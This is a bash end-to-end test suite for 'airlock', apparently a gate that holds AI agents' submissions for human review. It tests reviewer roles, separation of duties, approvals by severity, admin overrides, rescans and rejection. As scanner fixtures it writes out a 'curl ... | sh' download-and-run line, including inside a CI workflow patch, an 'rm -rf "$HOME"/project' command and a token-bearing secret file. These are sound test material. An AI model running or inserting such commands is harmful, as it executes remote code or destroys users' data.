#!/usr/bin/env bash
# e2e_review.sh - end-to-end tests of review and release against a real
# `airlock serve`: who may decide (roles, separation of duties, the
# reviewer read the bytes, approvals bound to the sha256 and the rule set),
# the policy (approvals by severity, DATA/policy, the override of
# unscannable, hold expiry, release roles), rejection as final, the re-hash
# at release, the signed attestation and `airlock verify`, `airlock pull`
# (a patch into `git am`, an archive unpacked safely) and the events that
# record every decision.
#
# Run from the repository root:  bash tests/e2e_review.sh
# The binary is $AIRLOCK_BIN (default build/airlock). Conventions as in
# tests/e2e_scan.sh: one t_* function per test, each in its own empty
# directory; every test makes its own data directory (`airlock init`),
# serves it on a free loopback port with the test rules (tests/data/rules)
# and stops it at the end (an EXIT trap stops it when a test fails
# half-way). The server helpers are copied from tests/e2e_serve.sh. Needs
# curl, git, tar, zip, openssl and python3.

. "$(dirname "${BASH_SOURCE[0]}")/e2e_lib.sh"

require curl pgrep git tar zip openssl sha256sum cmp dd
unset AIRLOCK_SOCKET AIRLOCK_URL AIRLOCK_TOKEN AIRLOCK_PUBKEY AIRLOCK_DATA
# git: no user configuration, fixed identities.
export GIT_CONFIG_NOSYSTEM=1 GIT_CONFIG_GLOBAL=/dev/null
export GIT_COMMITTER_NAME='CI Bot' GIT_COMMITTER_EMAIL=ci@example.org

# ---- the server (from tests/e2e_serve.sh) -----------------------------------------

# free_port: a loopback port nothing listens on now.
free_port() {
	python3 -c 'import socket; s = socket.socket(); s.bind(("127.0.0.1", 0)); print(s.getsockname()[1])'
}

# alive PID: the process exists and is not a zombie.
alive() {
	[ -r "/proc/$1/stat" ] || return 1
	! awk '{ sub(/^.*\) /, ""); exit !($1 == "Z") }' "/proc/$1/stat" 2>/dev/null
}

# gate_procs: the pids of every process serving ./data.
gate_procs() {
	pgrep -f -- "--data $PWD/data " || true
}

# kill_leftovers: SIGKILLs (by pid) whatever still serves ./data.
kill_leftovers() {
	local p
	for p in $(gate_procs); do
		kill -KILL "$p" 2>/dev/null
	done
}

# on_exit: the test's EXIT trap: stops the server and its children (and a
# lying one), and shows the server's log if the test failed.
on_exit() {
	local rc=$? i
	if [ -n "${SPID:-}" ] && alive "$SPID"; then
		kill -TERM "$SPID" 2>/dev/null
		for i in $(seq 1 30); do
			alive "$SPID" || break
			sleep 0.1
		done
		kill -KILL "$SPID" 2>/dev/null
	fi
	[ -z "${LPID:-}" ] || kill "$LPID" 2>/dev/null # liar_start's
	kill_leftovers
	if [ "$rc" != 0 ] && [ -s serve.log ]; then
		echo "  --- serve.log (last 20 lines):"
		tail -n 20 serve.log | sed 's/^/  | /'
	fi
	wait 2>/dev/null
	return "$rc"
}

# srv_init: `airlock init` of ./data; the admin token in $ADMIN.
srv_init() {
	"$BIN" init --data "$PWD/data" >admin.tok 2>init.err ||
		fail "airlock init failed: $(cat init.err)"
	ADMIN=$(cat admin.tok)
	[ -n "$ADMIN" ] || fail "airlock init printed no admin token"
}

# srv_start [SERVE-OPTIONS...]: serves ./data (init'ed first if need be) on a
# free port, 2 scanners, the test rules; sets PORT, URL, SPID.
srv_start() {
	local i
	[ -e data/airlock.db ] || srv_init
	[ -n "${ADMIN:-}" ] || ADMIN=$(cat admin.tok)
	trap on_exit EXIT
	for _ in 1 2 3; do
		PORT=$(free_port)
		URL=http://127.0.0.1:$PORT
		echo "--- serve --listen 127.0.0.1:$PORT $*" >>serve.log
		"$BIN" serve --data "$PWD/data" --listen "127.0.0.1:$PORT" \
			--scanners 2 --rules "$RULES" "$@" >>serve.log 2>&1 &
		SPID=$!
		for i in $(seq 1 200); do
			curl -s --max-time 2 "$URL/healthz" >/dev/null 2>&1 && return 0
			alive "$SPID" || break
			sleep 0.05
		done
		if alive "$SPID"; then
			fail "airlock serve did not answer /healthz within 10 s"
		fi
		wait "$SPID"
		SPID=
		tail -n 1 serve.log | grep -q 'in use' || break # else: another port
	done
	fail "airlock serve did not start: $(tail -n 5 serve.log)"
}

# srv_stop [AUDIT_RC]: SIGTERM; the server must exit 0 within 10 s; then
# airlock audit verify of ./data must exit AUDIT_RC (default 0).
srv_stop() {
	local i rc=0
	alive "$SPID" || fail "airlock serve died before the end of the test"
	kill -TERM "$SPID"
	for i in $(seq 1 100); do
		alive "$SPID" || break
		sleep 0.1
	done
	alive "$SPID" && fail "airlock serve still runs 10 s after SIGTERM"
	wait "$SPID" || rc=$?
	SPID=
	[ "$rc" = 0 ] || fail "airlock serve exited $rc after SIGTERM, expected 0"
	check_error_bodies
	# Whatever the test did through the gate, its log verifies (a test
	# that wrote behind the gate's back says it expects 1).
	RC=0
	"$BIN" audit verify --data "$PWD/data" >audit.out 2>&1 || RC=$?
	[ "$RC" = "${1:-0}" ] || fail "audit verify after the test: exit $RC, expected ${1:-0}: $(cat audit.out)"
}

# ---- requests (from tests/e2e_serve.sh) ------------------------------------------

# api METHOD PATH TOKEN [CURL-ARGS...]: a request to the TCP listener; the
# body in $OUT, the status in $CODE ("000": no answer). TOKEN may be "".
api() {
	local m=$1 p=$2 t=$3 auth=()
	shift 3
	[ -z "$t" ] || auth=(-H "Authorization: Bearer $t")
	CODE=$(curl -sS --max-time 30 -o "$OUT" -w '%{http_code}' -X "$m" \
		"${auth[@]}" "$@" "$URL$p" 2>"$ERR") || true
}

expect_code() { # CODE WHAT
	[ "$CODE" = "$1" ] || fail "${2:-request}: HTTP $CODE, expected $1"
}

# expect_all EXPR WANT [EXPR WANT...]: expect_q for many expressions, in one
# Python run; fails at the first mismatch. E(action) is the list of events
# of that action (on an events answer).
expect_all() {
	local msg
	msg=$(python3 - "$OUT" "$@" 2>&1 <<'EOF'
import json, re, sys
d = json.load(open(sys.argv[1], "rb"))
F = d.get("findings", []) if isinstance(d, dict) else []
R = lambda rule: [f for f in F if f["rule"] == rule]
E = lambda action: [e for e in d.get("events", []) if e["action"] == action]
a = sys.argv[2:]
for e, w in zip(a[0::2], a[1::2]):
    try:
        v = str(eval(e))
    except Exception as x:
        v = "error: %r" % x
    if v != w:
        print("%s: got '%s', expected '%s'" % (e, v, w))
        break
EOF
	) || fail "the answer is not JSON: $msg"
	[ -z "$msg" ] || fail "$msg"
}

# expect_error_json [SECRET...]: $OUT is {"error": "..."} holding none of
# the SECRETs; kept for check_error_bodies (at srv_stop).
NERR=0
expect_error_json() {
	local s
	grep -q '"error": *"' "$OUT" || fail "the error body has no \"error\""
	for s in "$@"; do
		! grep -qF -- "$s" "$OUT" || fail "the error body repeats '$s'"
	done
	NERR=$((NERR + 1))
	mkdir -p errbodies
	cp "$OUT" "errbodies/$NERR"
}
check_error_bodies() {
	[ -d errbodies ] || return 0
	python3 - errbodies/* <<'EOF' || fail "an error body is not exactly {\"error\": STRING}"
import json, sys
for f in sys.argv[1:]:
    d = json.load(open(f, "rb"))
    assert isinstance(d, dict) and list(d) == ["error"] and isinstance(d["error"], str) and d["error"], f
EOF
}

tok_of_out() { grep -o '"token": *"alk_[^"]*"' "$OUT" | grep -o 'alk_[^"]*'; }
id_of_out() { grep -o '"id": *[0-9]*' "$OUT" | head -n 1 | grep -o '[0-9]*$'; }
sha_of_out() { grep -o '"sha256": *"[0-9a-f]*"' "$OUT" | head -n 1 | grep -o '[0-9a-f]\{64\}'; }

# mk_token ROLE NAME [ON_BEHALF_OF [TTL]]: made by the admin; the token in $TOK.
mk_token() {
	# The token's person: the one an agent is launched for, else the
	# person named like the token (registered here if new).
	api POST /v1/persons "$ADMIN" -H 'Content-Type: application/json' \
		--data-binary "{\"name\": \"${3:-$2}\"}"
	[ "$CODE" = 201 ] || [ "$CODE" = 409 ] || fail "POST /v1/persons ${3:-$2}: HTTP $CODE"
	local body="{\"role\": \"$1\", \"name\": \"$2\"${3:+, \"on_behalf_of\": \"$3\"}${4:+, \"ttl\": \"$4\"}}"
	api POST /v1/tokens "$ADMIN" -H 'Content-Type: application/json' --data-binary "$body"
	expect_code 201 "POST /v1/tokens $body"
	TOK=$(tok_of_out)
	[ -n "$TOK" ] || fail "no token in the answer"
}

# submit TOKEN FILE [QUERY]: POST /v1/submissions, 201 expected; the id in
# $SID, the sha256 in $SHA.
submit() {
	api POST "/v1/submissions${3:+?$3}" "$1" --data-binary "@$2"
	expect_code 201 "submit $2"
	SID=$(id_of_out)
	SHA=$(sha_of_out)
	[ -n "$SID" ] && [ -n "$SHA" ] || fail "no id or sha256 in the answer"
}

# wait_state ID STATE [SECONDS]: polls GET /v1/submissions/ID (admin) until
# its state is STATE (default 20 s); the submission is then in $OUT.
wait_state() {
	local id=$1 want=$2 max=${3:-20} i
	for i in $(seq 1 $((max * 20))); do
		api GET "/v1/submissions/$id" "$ADMIN"
		[ "$CODE" = 200 ] && grep -q "^  \"state\": \"$want\"" "$OUT" && return 0
		sleep 0.05
	done
	fail "submission $id: not '$want' after ${max}s (HTTP $CODE)"
}

# ---- review helpers --------------------------------------------------------------

# as TOKEN ARGS...: the command-line client against this gate with TOKEN.
as() {
	local tok=$1
	shift
	AIRLOCK_URL=$URL AIRLOCK_TOKEN=$tok al "$@"
}

# held TOKEN FILE [QUERY]: submits and waits for the scan; $SID, $SHA, and
# the submission's latest rule set in $RS.
held() {
	submit "$@"
	wait_state "$SID" held
	RS=$(jsonq 'd["scan"]["ruleset"]')
	[ -n "$RS" ] || fail "submission $SID: no scan.ruleset"
}

# view TOKEN ID: GET content (records a view), 200 expected.
view() {
	api GET "/v1/submissions/$2/content" "$1"
	expect_code 200 "GET /v1/submissions/$2/content"
}

# approve_raw TOKEN ID SHA RULESET: POST approve with curl; $CODE.
approve_raw() {
	api POST "/v1/submissions/$2/approve" "$1" -H 'Content-Type: application/json' \
		--data-binary "{\"sha256\": \"$3\", \"ruleset\": \"$4\"}"
}

# standing ID STATE APPROVALS NEEDED [OVERRIDE]: GET /v1/submissions/ID
# (admin) shows that state and review.
standing() {
	api GET "/v1/submissions/$1" "$ADMIN"
	expect_code 200 "GET /v1/submissions/$1"
	expect_all 'd["state"]' "$2" 'd["review"]["approvals"]' "$3" \
		'd["review"]["needed"]' "$4" 'd["review"]["override"]' "${5:-False}"
}

# events ID: GET /v1/submissions/ID/events (admin) into $OUT.
events() {
	api GET "/v1/submissions/$1/events" "$ADMIN"
	expect_code 200 "GET /v1/submissions/$1/events"
}

# approve_as TOKEN ID: the reviewer reads (airlock diff) then approves with
# the client; exit 0 expected.
approve_as() {
	as "$1" diff "$2"
	expect_rc 0 "airlock diff $2"
	as "$1" approve "$2" -m "looks right"
	expect_rc 0 "airlock approve $2"
}

# reviewers N: makes reviewer tokens rev-1..rev-N; in REV[1..N].
REV=()
reviewers() {
	local i
	for i in $(seq 1 "$1"); do
		mk_token reviewer "rev-$i"
		REV[i]=$TOK
	done
}

# blob SHA: the stored file of those bytes.
blob() {
	local f
	f=$(find data/objects -type f -name "$1")
	[ -n "$f" ] || fail "no stored object $1 under data/objects"
	echo "$f"
}

# A secret the test rules call critical, a download into a shell (high).
pat_file() { printf 'GITHUB_TOKEN=%s\n' "$PAT1" >"$1"; }
curlsh_file() { printf '#!/bin/sh\ncurl -s https://198.51.100.23/x | sh\n' >"$1"; }

# ---- 1. the decision matrix -------------------------------------------------------

t_decision_matrix() {
	local AG CI AU ALICE S
	srv_start
	mk_token agent agent-1 alice
	AG=$TOK
	reviewers 2
	mk_token reviewer alice # the person who launched agent-1
	ALICE=$TOK
	mk_token ci ci-1
	CI=$TOK
	mk_token auditor aud-1
	AU=$TOK
	pat_file secret.env # critical: 2 approvals, so refusals can be seen on a held one
	held "$AG" secret.env name=secret.env
	S=$SID
	expect_all 'd["verdict"]' flagged 'd["worst"]' critical 'd["review"]["needed"]' 2

	# Roles that never approve: 403, with the right bytes and rule set.
	for tok in "$AG" "$CI" "$AU"; do
		approve_raw "$tok" "$S" "$SHA" "$RS"
		expect_code 403 "approve by a non-reviewer role"
		expect_error_json "$tok"
	done
	as "$AG" approve "$S"
	expect_rc 1 "airlock approve by the submitting agent"
	expect_err_has "HTTP 403"
	as "$CI" approve "$S"
	expect_rc 1 "airlock approve by ci"
	as "$AU" approve "$S"
	expect_rc 1 "airlock approve by an auditor"
	# The agent cannot release, nor read the content.
	api POST "/v1/submissions/$S/release" "$AG" --data-binary '{}'
	expect_code 403 "release by the agent"
	api GET "/v1/submissions/$S/content" "$AG"
	expect_code 403 "content for the agent"
	# ci cannot read what is not released.
	api GET "/v1/submissions/$S/content" "$CI"
	expect_code 403 "content for ci before release"

	# The person who launched the agent, although a reviewer who read it.
	as "$ALICE" diff "$S"
	expect_rc 0 "airlock diff by alice"
	as "$ALICE" approve "$S"
	expect_rc 1 "airlock approve by the person who launched the agent"
	expect_err_has "HTTP 403"
	expect_err_has "launched"
	approve_raw "$ALICE" "$S" "$SHA" "$RS"
	expect_code 403 "approve (curl) by the person who launched the agent"

	# Never read it: refused; after airlock diff: accepted.
	as "${REV[1]}" approve "$S"
	expect_rc 1 "airlock approve without reading"
	expect_err_has "HTTP 403"
	expect_err_has "airlock diff"
	standing "$S" held 0 2
	as "${REV[1]}" diff "$S"
	expect_rc 0 "airlock diff"
	expect_out_has "$PAT1"
	as "${REV[1]}" approve "$S" -m "first"
	expect_rc 0 "airlock approve after airlock diff"
	expect_out_has "held (1 of 2 approvals)"

	# The same reviewer again: 409, counted once.
	as "${REV[1]}" approve "$S"
	expect_rc 1 "a second approval by the same reviewer"
	expect_err_has "HTTP 409"
	approve_raw "${REV[1]}" "$S" "$SHA" "$RS"
	expect_code 409 "a second approval (curl) by the same reviewer"
	expect_error_json "${REV[1]}"
	standing "$S" held 1 2

	# Other bytes, another rule set, or none: refused, nothing counted.
	view "${REV[2]}" "$S"
	approve_raw "${REV[2]}" "$S" "$(printf 'other' | sha256sum | cut -d' ' -f1)" "$RS"
	expect_code 403 "an approval naming another sha256"
	expect_error_json "${REV[2]}"
	approve_raw "${REV[2]}" "$S" "$SHA" "sha256:$(printf 'rules' | sha256sum | cut -d' ' -f1)"
	expect_code 403 "an approval naming another rule set"
	expect_error_json "${REV[2]}"
	api POST "/v1/submissions/$S/approve" "${REV[2]}" --data-binary "{\"sha256\": \"$SHA\"}"
	expect_code 400 "an approval without a rule set"
	standing "$S" held 1 2
	approve_raw "${REV[2]}" "$S" "$SHA" "$RS"
	expect_code 200 "the approval with the right sha256 and rule set"
	expect_all 'd["state"]' approved 'd["approvals"]' 2 'd["needed"]' 2
	standing "$S" approved 2 2

	# Approved: still no release by the agent or an auditor.
	api POST "/v1/submissions/$S/release" "$AG" --data-binary '{}'
	expect_code 403 "release by the agent, approved"
	api POST "/v1/submissions/$S/release" "$AU" --data-binary '{}'
	expect_code 403 "release by an auditor"
	as "$AG" release "$S"
	expect_rc 1 "airlock release by the agent"
	api GET "/v1/submissions/$S" "$ADMIN"
	expect_all 'd["state"]' approved
	srv_stop
}

# The launched-by check compares names without regard to case.
# The kind is the gate's reading of the content, not the agent's label: a
# zip and a patch submitted as plain files are read (and flagged) as what
# they are, the reading is shown, signed into the attestation, and pull
# delivers in exactly that kind.
t_kind_is_the_gates_reading() {
	local AG CI SZ SP
	srv_start
	mk_token agent agent-1 alice
	AG=$TOK
	mk_token ci ci-1
	CI=$TOK
	reviewers 2
	curlsh_file run.sh
	zip -q x.zip run.sh || fail "zip"
	held "$AG" x.zip 'kind=file&name=notes.txt'
	SZ=$SID
	expect_all 'd["kind"]' archive 'd["kind_asked"]' file 'd["verdict"]' flagged \
		'sorted((f["rule"], f["path"]) for f in F)' "[('airlock.kind-mismatch', 'notes.txt'), ('test-curl-pipe-shell', 'notes.txt!/run.sh')]" \
		'R("airlock.kind-mismatch")[0]["excerpt"]' 'submitted as a file, but the content is an archive: read as an archive'
	as "${REV[1]}" show "$SZ"
	expect_rc 0 "airlock show"
	grep -Eq '^  kind +archive$' "$OUT" || fail "show does not give the kind read"
	grep -Eq '^  kind +file$' "$OUT" || fail "show does not give the kind asked"
	approve_as "${REV[1]}" "$SZ"
	approve_as "${REV[2]}" "$SZ"
	as "$CI" release "$SZ" -o zip.att.json
	expect_rc 0 "release of the zip"
	python3 -c 'import base64, json, sys
e = json.load(open(sys.argv[1]))
s = json.loads(base64.b64decode(e["payload"]))
print(s["predicate"]["kind"])' zip.att.json >kind.txt || fail "cannot read the attestation"
	expect_eq "$(cat kind.txt)" archive "the attestation's kind"
	as "$CI" pull "$SZ" -o out
	expect_rc 0 "pull of the zip read as an archive"
	cmp -s out/run.sh run.sh || fail "pull did not unpack the archive it read"
	[ ! -e notes.txt ] || fail "pull wrote the archive as the plain file it was called"

	# A patch that adds a CI workflow, labelled a plain file.
	mkdir -p r/.github/workflows
	printf 'on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -s https://198.51.100.23/x | sh\n' >r/.github/workflows/ci.yml
	git -C r init -q && git -C r add -A && git -C r diff --cached >wf.patch
	held "$AG" wf.patch 'kind=file&name=change.txt'
	SP=$SID
	expect_all 'd["kind"]' patch 'd["kind_asked"]' file \
		'[f["path"] for f in R("test-curl-pipe-shell")]' "['change.txt!/.github/workflows/ci.yml']"
	approve_as "${REV[1]}" "$SP"
	approve_as "${REV[2]}" "$SP"
	as "$CI" release "$SP"
	expect_rc 0 "release of the patch"
	as "$CI" pull "$SP"
	expect_rc 0 "pull of the patch"
	cmp -s "$OUT" wf.patch || fail "pull did not deliver the patch on standard output"
	[ ! -e change.txt ] || fail "pull wrote the patch as the plain file it was called"
	srv_stop
}

t_launched_by_is_case_insensitive() {
	local AG BOB
	srv_start
	mk_token agent agent-1 alice
	AG=$TOK
	mk_token reviewer Alice
	BOB=$TOK
	echo 'hello' >a.txt
	held "$AG" a.txt name=a.txt
	view "$BOB" "$SID"
	approve_raw "$BOB" "$SID" "$SHA" "$RS"
	expect_code 403 "approve by reviewer 'Alice' of an agent launched by 'alice'"
	standing "$SID" held 0 1
	srv_stop
}

# ---- 2. policy by severity --------------------------------------------------------

t_policy_by_severity() {
	local AG C H K
	srv_start
	mk_token agent agent-1 alice
	AG=$TOK
	reviewers 2
	echo 'print("hello")' >clean.py
	held "$AG" clean.py name=clean.py
	C=$SID
	expect_all 'd["verdict"]' clean 'd["findings"]' '[]'
	curlsh_file install.sh
	held "$AG" install.sh name=install.sh
	H=$SID
	expect_all 'd["verdict"]' flagged 'd["worst"]' high
	pat_file secret.env
	held "$AG" secret.env name=secret.env
	K=$SID
	expect_all 'd["verdict"]' flagged 'd["worst"]' critical

	standing "$C" held 0 1
	standing "$H" held 0 2
	standing "$K" held 0 2
	# Clean: one approval.
	approve_as "${REV[1]}" "$C"
	expect_out_has "approved (1 of 1 approvals)"
	standing "$C" approved 1 1
	# High and critical: one is not enough, two distinct are.
	for S in "$H" "$K"; do
		approve_as "${REV[1]}" "$S"
		standing "$S" held 1 2
		approve_as "${REV[2]}" "$S"
		expect_out_has "approved (2 of 2 approvals)"
		standing "$S" approved 2 2
	done
	srv_stop
}

# DATA/policy: numbers of approvals and release roles of one's own.
t_policy_file() {
	local AG CI C H
	srv_init
	cat >data/policy <<'EOF'
# two people for everything, three for high; reviewers release, ci does not
approvals.clean = 2
approvals.high=3
release_roles = reviewer, admin
EOF
	srv_start
	mk_token agent agent-1 alice
	AG=$TOK
	mk_token ci ci-1
	CI=$TOK
	reviewers 3
	echo 'hello' >a.txt
	held "$AG" a.txt name=a.txt
	C=$SID
	curlsh_file install.sh
	held "$AG" install.sh name=install.sh
	H=$SID
	standing "$C" held 0 2
	standing "$H" held 0 3
	approve_as "${REV[1]}" "$C"
	standing "$C" held 1 2
	approve_as "${REV[2]}" "$C"
	standing "$C" approved 2 2
	approve_as "${REV[1]}" "$H"
	approve_as "${REV[2]}" "$H"
	standing "$H" held 2 3
	approve_as "${REV[3]}" "$H"
	standing "$H" approved 3 3
	# release_roles: ci is not among them any more.
	as "$CI" release "$C"
	expect_rc 1 "airlock release by ci, release_roles = reviewer, admin"
	expect_err_has "HTTP 403"
	as "${REV[3]}" release "$C" -o att.json
	expect_rc 0 "airlock release by a reviewer"
	api GET "/v1/submissions/$C" "$ADMIN"
	expect_all 'd["state"]' released
	srv_stop
}

# A policy file the gate cannot follow stops it from starting.
t_policy_file_invalid() {
	local bad port rc
	srv_init
	for bad in 'approvals.clean = 0' 'approvals.high = 17' 'hold_expiry = soon' \
		'release_roles = agent' 'approvals.critical = 2' 'just words'; do
		printf '%s\n' "$bad" >data/policy
		port=$(free_port)
		rc=0
		timeout 10 "$BIN" serve --data "$PWD/data" --listen "127.0.0.1:$port" \
			--rules "$RULES" >"$OUT" 2>"$ERR" || rc=$?
		[ "$rc" != 124 ] || fail "airlock serve started with the policy '$bad'"
		[ "$rc" != 0 ] || fail "airlock serve exited 0 with the policy '$bad'"
		grep -q policy "$ERR" || fail "the error for the policy '$bad' does not name the policy file"
	done
}

# ---- 3. unscannable needs an admin's override ----------------------------------------

t_unscannable_needs_override() {
	local AG U U2 C
	srv_start
	mk_token agent agent-1 alice
	AG=$TOK
	reviewers 2
	echo 'the secret plan' >plan.txt
	zip -q -P hunter2 enc.zip plan.txt || fail "zip -P failed"
	held "$AG" enc.zip name=enc.zip
	U=$SID
	expect_all 'd["verdict"]' unscannable 'len(R("airlock.unscannable"))' 1
	echo 'hello' >a.txt
	held "$AG" a.txt name=a.txt
	C=$SID
	standing "$U" held 0 2

	approve_as "${REV[1]}" "$U"
	approve_as "${REV[2]}" "$U"
	# Two approvals, no override: still held.
	standing "$U" held 2 2
	api POST "/v1/submissions/$U/release" "$ADMIN" --data-binary '{}'
	expect_code 409 "release of a held submission"

	# Only an admin overrides, and says why.
	api POST "/v1/submissions/$U/override" "${REV[1]}" --data-binary '{"reason": "I know the file"}'
	expect_code 403 "override by a reviewer"
	as "${REV[1]}" override "$U" -m "I know the file"
	expect_rc 1 "airlock override by a reviewer"
	api POST "/v1/submissions/$U/override" "$ADMIN" --data-binary '{"reason": ""}'
	expect_code 400 "override with an empty reason"
	expect_error_json "$ADMIN"
	api POST "/v1/submissions/$U/override" "$ADMIN" --data-binary '{}'
	expect_code 400 "override without a reason"
	as "$ADMIN" override "$U"
	expect_rc 2 "airlock override without -m"
	standing "$U" held 2 2 False
	expect_all '"overridden" in d' False
	# Not unscannable: nothing to override.
	api POST "/v1/submissions/$C/override" "$ADMIN" --data-binary '{"reason": "because"}'
	expect_code 403 "override of a clean submission"
	expect_error_json "$ADMIN"
	standing "$C" held 0 1 False

	as "$ADMIN" override "$U" -m "password known; content checked by hand"
	expect_rc 0 "airlock override by the admin"
	expect_out_has "approved (2 of 2 approvals, overridden)"
	standing "$U" approved 2 2 True
	expect_all 'd["overridden"]["admin"]' admin \
		'd["overridden"]["reason"]' "password known; content checked by hand" \
		'd["overridden"]["at"].startswith("20")' True
	api POST "/v1/submissions/$U/override" "$ADMIN" --data-binary '{"reason": "again"}'
	expect_code 403 "an override of an approved submission"
	events "$U"
	expect_all 'len(E("override"))' 1 \
		'E("override")[0]["detail"].split(" ", 1)[1]' 'reason=password known; content checked by hand' \
		'E("approved")[0]["actor"] == E("override")[0]["actor"] != None' True

	# The other order: the override first, then the approvals.
	held "$AG" enc.zip name=enc-again.zip
	U2=$SID
	as "$ADMIN" override "$U2" -m "checked"
	expect_rc 0 "an override before the approvals"
	expect_out_has "held (0 of 2 approvals, overridden)"
	api POST "/v1/submissions/$U2/override" "$ADMIN" --data-binary '{"reason": "once more"}'
	expect_code 409 "a second override of the same scan"
	expect_error_json "$ADMIN"
	approve_as "${REV[1]}" "$U2"
	standing "$U2" held 1 2 True
	approve_as "${REV[2]}" "$U2"
	standing "$U2" approved 2 2 True
	# The release statement says it rests on the admin's word.
	as "$ADMIN" release "$U" -o override.att
	expect_rc 0 "release of the overridden submission"
	python3 - override.att <<'PY' || fail "the statement does not record the override"
import base64, json, sys
st = json.loads(base64.b64decode(json.load(open(sys.argv[1]))["payload"]))
o = st["predicate"]["override"]
assert st["predicate"]["scan"]["verdict"] == "unscannable", st
assert o["reason"] == "password known; content checked by hand", o
assert o["admin"] == "admin" and o["at"], o
PY
	# The auditor's questions: every unscannable scan and its fate, every
	# override and who made it.
	RC=0
	"$BIN" audit query unscannable --data "$PWD/data" --json >"$OUT" 2>"$ERR" || RC=$?
	expect_rc 0 "audit query unscannable"
	python3 - "$OUT" "$U" "$U2" <<'PY' || fail "audit query unscannable: $(cat "$OUT")"
import json, sys
rows = [json.loads(l) for l in open(sys.argv[1])]
fate = {r["submission"]: r["fate"] for r in rows}
u, u2 = int(sys.argv[2]), int(sys.argv[3])
assert fate.get(u) == "release" and fate.get(u2) == "approved", fate
assert all("verdict=unscannable" in r["detail"] for r in rows), rows
PY
	RC=0
	"$BIN" audit query overrides --data "$PWD/data" --csv >"$OUT" 2>"$ERR" || RC=$?
	expect_rc 0 "audit query overrides"
	expect_eq "$(python3 -c 'import csv, sys; r = list(csv.DictReader(open(sys.argv[1]))); print(len(r), sorted(set(x["actor-name"] for x in r)))' "$OUT")" \
		"2 ['admin']" "overrides in the CSV"
	srv_stop
}

# ---- 4. rejection is final --------------------------------------------------------

# wait_rescan ID RULESET: polls (admin) until submission ID is held again
# under a scan of another rule set than RULESET (20 s); $OUT has it.
wait_rescan() {
	local i
	for i in $(seq 1 400); do
		api GET "/v1/submissions/$1" "$ADMIN"
		[ "$CODE" = 200 ] && [ "$(jsonq 'd["state"] == "held" and d["scan"]["ruleset"] != "'"$2"'"')" = True ] &&
			return 0
		sleep 0.05
	done
	fail "submission $1 was not scanned again under new rules within 20 s"
}

# A rescan under new rules that finds nothing new leaves the approvals
# standing; one that finds more voids them, and the record says which and
# why (GET /v1/submissions/ID "voided", airlock show) instead of dropping
# them silently; a new approval of the new scan counts again.
t_rescan_voids_approvals() {
	local rs1 rs2
	cp -r "$RULES" rules
	RULES=$PWD/rules
	srv_start
	mk_token agent agent-1 alice
	AG=$TOK
	reviewers 2
	printf 'diff --git a/x.sh b/x.sh\n--- a/x.sh\n+++ b/x.sh\n@@ -1,1 +1,2 @@\n echo one\n+curl -s https://198.51.100.23/x | sh # ZZMARKERZZ\n' >x.patch
	held "$AG" x.patch "kind=patch&name=x.patch"
	rs1=$RS
	approve_as "${REV[1]}" "$SID"
	standing "$SID" held 1 2
	expect_all 'len(d["approvals"])' 1 '"voided" in d' False
	# New rules that find nothing more in it: the approval stands.
	printf 'rules:\n  - id: test-other-marker\n    title: Another marker (e2e)\n    category: obfuscation\n    severity: medium\n    pattern: QQNOTHEREQQ\n    description: >\n      Matches nothing in the test patch.\n    examples:\n      match: [echo QQNOTHEREQQ]\n      ignore: [echo nothing]\n' >rules/other.yml
	api POST /v1/rules/reload "$ADMIN" -H 'Content-Type: application/json' --data-binary '{}'
	expect_code 202 "reload with a rule that matches nothing in the patch"
	wait_rescan "$SID" "$rs1"
	rs2=$(jsonq 'd["scan"]["ruleset"]')
	standing "$SID" held 1 2
	expect_all '[a["reviewer"] for a in d["approvals"]]' "['rev-1']" \
		'd["approvals"][0]["person"]' rev-1 '"voided" in d' False
	# Rules that find one thing more: the approval no longer counts.
	printf 'rules:\n  - id: test-extra-marker\n    title: An extra marker (e2e)\n    category: obfuscation\n    severity: medium\n    pattern: ZZMARKERZZ\n    description: >\n      Added after the approval: the rescan finds it.\n    examples:\n      match: [echo ZZMARKERZZ]\n      ignore: [echo nothing]\n' >rules/extra.yml
	api POST /v1/rules/reload "$ADMIN" -H 'Content-Type: application/json' --data-binary '{}'
	expect_code 202 "reload with a rule that finds more in the patch"
	wait_rescan "$SID" "$rs2"
	standing "$SID" held 0 2
	expect_all 'd["approvals"]' '[]' 'len(d["voided"])' 1 \
		'd["voided"][0]["reviewer"]' rev-1 'd["voided"][0]["person"]' rev-1 \
		'd["voided"][0]["new_findings"]' 1 'd["voided"][0]["ruleset"]' "$rs1" \
		'd["voided"][0]["why"].startswith("given to an earlier scan (rules sha256:")' True \
		'"found 1 finding that one did not show: it needs a new approval" in d["voided"][0]["why"]' True
	# Only those who may read approvals see it: not the agent.
	api GET "/v1/submissions/$SID" "$AG"
	expect_code 200 "the agent's own submission"
	expect_all '"voided" in d' False '"approvals" in d' False
	as "${REV[2]}" show "$SID"
	expect_rc 0 "airlock show $SID"
	grep -q '^approvals that no longer count (1)$' "$OUT" || fail "show: no voided approvals section"
	grep -q 'found 1 finding that one did not show' "$OUT" || fail "show: the voided approval lacks why"
	# rev-1 approves the new scan: it counts, and is no longer voided.
	approve_as "${REV[1]}" "$SID"
	standing "$SID" held 1 2
	expect_all '"voided" in d' False '[a["reviewer"] for a in d["approvals"]]' "['rev-1']"
	srv_stop
}

t_rejected_cannot_be_released() {
	local AG CI S
	srv_start
	mk_token agent agent-1 alice
	AG=$TOK
	mk_token ci ci-1
	CI=$TOK
	reviewers 2
	echo 'rm -rf "$HOME"/project' >cleanup.sh
	held "$AG" cleanup.sh name=cleanup.sh
	S=$SID
	as "${REV[1]}" reject "$S"
	expect_rc 2 "airlock reject without -m"
	# A reason that is not UTF-8 is refused by the client, not sent
	# without it (the gate reads JSON, which is UTF-8).
	as "${REV[1]}" reject "$S" -m "bad"$'\xff'
	expect_rc 2 "airlock reject -m with a byte that is not UTF-8"
	expect_err_has "-m takes UTF-8 text, not 'bad\xff'"
	as "${REV[2]}" approve "$S" -m "ok"$'\xff'
	expect_rc 2 "airlock approve -m with a byte that is not UTF-8"
	api POST "/v1/submissions/$S/reject" "${REV[1]}" --data-binary '{}'
	expect_code 400 "reject without a comment"
	api POST "/v1/submissions/$S/reject" "$AG" --data-binary '{"comment": "mine"}'
	expect_code 403 "reject by the agent"
	api POST "/v1/submissions/$S/reject" "$CI" --data-binary '{"comment": "no"}'
	expect_code 403 "reject by ci"
	as "${REV[1]}" reject "$S" -m "deletes the home directory"
	expect_rc 0 "airlock reject"
	expect_out_has "rejected"
	standing "$S" rejected 0 1
	# No way back.
